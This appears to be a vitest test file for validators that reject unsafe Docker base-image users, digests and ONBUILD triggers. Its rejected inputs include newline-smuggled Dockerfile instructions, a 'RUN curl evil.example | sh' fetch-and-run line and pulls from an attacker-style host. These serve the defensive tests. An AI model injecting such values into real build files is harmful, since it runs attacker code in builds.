import { describe, expect, it } from 'vitest';
import { baseFault, isUser, isWritable, longestTrigger, mostTriggers } from './baseSupport.ts';

describe('isWritable', () => {
  const digest = `sha256:${'a'.repeat(64)}`;

  it.each([
    [{ image: 'r.example/a/b:1', digest, user: '1000:100' }, true],
    [{ image: 'r.example/a/b\nFROM evil.example/x1', digest, user: '' }, false],
    [{ image: 'r.example/a/b', digest: `${digest}\nFROM evil.example/x1`, user: '' }, false],
    [{ image: 'r.example/a/b', digest, user: '0\nRUN id' }, false],
  ])('%j: %s', (base, writable) => {
    expect(isWritable(base)).toBe(writable);
  });
});

describe('isUser', () => {
  it.each([
    '',
    'root',
    '0',
    'jovyan',
    '1000:100',
    'www-data:users',
    '_apt',
    'a.b',
    `${'a'.repeat(64)}:${'b'.repeat(64)}`,
  ])('takes %j', (user) => {
    expect(isUser(user)).toBe(true);
  });

  it.each([
    '1000\nFROM evil.example/x/y\nRUN curl evil.example | sh\nUSER 1000',
    '1000\r',
    '1000\n',
    ' ',
    'a b',
    '$HOME',
    '${A}',
    ':100',
    '1000:',
    'a:b:c',
    '--x',
    'a\\b',
    '1000 # ',
    'ü',
    'a'.repeat(65),
    `a:${'b'.repeat(65)}`,
  ])('refuses %j', (user) => {
    expect(isUser(user)).toBe(false);
  });
});

describe('baseFault', () => {
  const fault = (...onBuild: readonly string[]) => baseFault('team/base:1', { user: '1000', onBuild });

  it.each(['RUN true', 'ENV A=b', 'USER 1000', 'ADD https://example.com/a /a', 'WORKDIR /x', 'CMD ["x"]', 'run\ttrue'])(
    'lets a base run ONBUILD %s',
    (trigger) => {
      expect(fault('ENV C=d', trigger)).toBeUndefined();
    },
  );

  it.each([
    ['COPY . /home/user', 'copies files of a build context'],
    ['COPY ["a b", "/c"]', 'copies files of a build context'],
    ['ADD requirements.txt /tmp/', 'copies files of a build context'],
    ['COPY --from=evil.example/x /a /b', 'not pinned'],
    ['COPY --from=0 /a /b', 'not pinned'],
    ['FROM evil.example/x', 'not built as Docker builds it'],
    ['ONBUILD RUN true', 'not built as Docker builds it'],
    ['RUN --mount=type=secret,id=x cat /x', 'not built as Docker builds it'],
    ['RUNN x', 'not built as Docker builds it'],
    ['RUN true\nFROM evil.example/x', 'not one instruction'],
    ['RUN true \\\n && true', 'not one instruction'],
    ['RUN true\rFROM evil.example/x', 'not one instruction'],
    ['# syntax=evil.example/x\nRUN true', 'not one instruction'],
    ['', 'not one instruction'],
  ])('refuses a base with ONBUILD %j', (trigger, words) => {
    const message = fault('ENV A=b', trigger);
    expect(message).toContain('team/base:1 cannot be extended: its instruction ONBUILD "');
    expect(message).toContain(words);
    expect(message).not.toMatch(/[\r\n]/);
  });

  it('names the image and a USER that is none', () => {
    expect(baseFault('team/base:1', { user: '1000\nRUN x', onBuild: [] })).toBe(
      'team/base:1 cannot be extended: its USER "1000\\nRUN x" is neither a name nor a number; use another base image, or correct it there',
    );
  });

  it('reads only so much', () => {
    const most = Array.from({ length: mostTriggers }, () => 'RUN x');
    expect(fault(...most)).toBeUndefined();
    expect(fault(...most, 'RUN x')).toContain('65 ONBUILD instructions');
    expect(fault(`RUN ${'x'.repeat(longestTrigger - 4)}`)).toBeUndefined();
    expect(fault(`RUN ${'x'.repeat(longestTrigger - 3)}`)).toContain('longer than 4096 characters');
  });
});
